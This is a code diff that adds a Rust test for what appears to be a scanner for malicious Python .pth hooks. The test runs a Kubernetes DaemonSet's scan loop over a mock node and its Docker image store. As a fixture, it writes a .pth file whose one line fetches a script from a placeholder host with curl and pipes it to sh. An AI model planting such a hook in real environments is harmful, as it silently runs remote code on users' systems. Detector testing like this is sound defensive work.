@@ -729,3 +729,72 @@ fn the_workflow_validates_verifies_the_release_and_finds_a_lockfile_pin() {
         "{sarif:#}"
     );
 }
+
+/// The DaemonSet's own loop, once: its shell script as the manifest has it, with the node's
+/// root, the binary and the hour's sleep mapped into this test. It gives `--image-store` for
+/// each store the node has (here Docker's, with an image holding a hook), and the sweep
+/// reports the node's hooks and the image's, each image named.
+#[test]
+fn the_daemonset_loop_sweeps_the_node_and_its_image_stores() {
+    let manifest = deploy("kubernetes/daemonset.yaml");
+    let mut lines = manifest.lines().skip_while(|l| l.trim() != "- |").skip(1);
+    let script: Vec<&str> = lines
+        .by_ref()
+        .take_while(|l| l.starts_with("              ") || l.trim().is_empty())
+        .map(|l| l.get(14..).unwrap_or(""))
+        .collect();
+    let script = script.join("\n");
+    assert!(script.contains("sleep 3600"), "{script}");
+    let node = tempfile::tempdir().unwrap();
+    crate::host::build_host(node.path());
+    let lib = node.path().join("var/lib");
+    std::fs::create_dir_all(&lib).unwrap();
+    let store = crate::stores::small_docker_store(&lib);
+    let site = store.join("overlay2/cgood/diff/usr/lib/python3/dist-packages");
+    std::fs::write(
+        site.join("evil.pth"),
+        "import os; os.system('curl -s http://x.invalid | sh')\n",
+    )
+    .unwrap();
+    let script = script
+        .replace("/host", &node.path().display().to_string())
+        .replace("/usr/local/bin/pthscan", &bin().display().to_string())
+        .replace("sleep 3600", "break");
+    let mut cmd = Command::new("sh");
+    isolated(&mut cmd).args(["-c", &script]);
+    let out = cmd.output().unwrap();
+    let err = String::from_utf8_lossy(&out.stderr);
+    assert!(out.status.success(), "{err}");
+    // one status line per scan: 1, findings (before 2: the store's broken images, said in
+    // diagnostics)
+    assert!(
+        err.contains("pthscan: node scan ended with exit status 1"),
+        "{err}\n{}",
+        String::from_utf8_lossy(&out.stdout)
+    );
+    let findings: Vec<serde_json::Value> = String::from_utf8_lossy(&out.stdout)
+        .lines()
+        .map(|l| serde_json::from_str(l).unwrap())
+        .filter(|v: &serde_json::Value| v["rule"].is_string())
+        .collect();
+    // the image's hook, named by the image and the layer it is in
+    assert!(
+        findings.iter().any(|f| {
+            f["rule"] == "PTH001"
+                && f["severity"] == "high"
+                && f["location"]["path"].as_str().is_some_and(|p| {
+                    p.contains("/var/lib/docker › good:1 ")
+                        && p.contains("› layer 1 ")
+                        && p.ends_with("dist-packages/evil.pth")
+                })
+        }),
+        "{findings:#?}"
+    );
+    // and the node itself, outside its stores
+    assert!(
+        findings.iter().any(|f| f["location"]["path"]
+            .as_str()
+            .is_some_and(|p| !p.contains(" › ") && f["severity"] == "high")),
+        "{findings:#?}"
+    );
+}
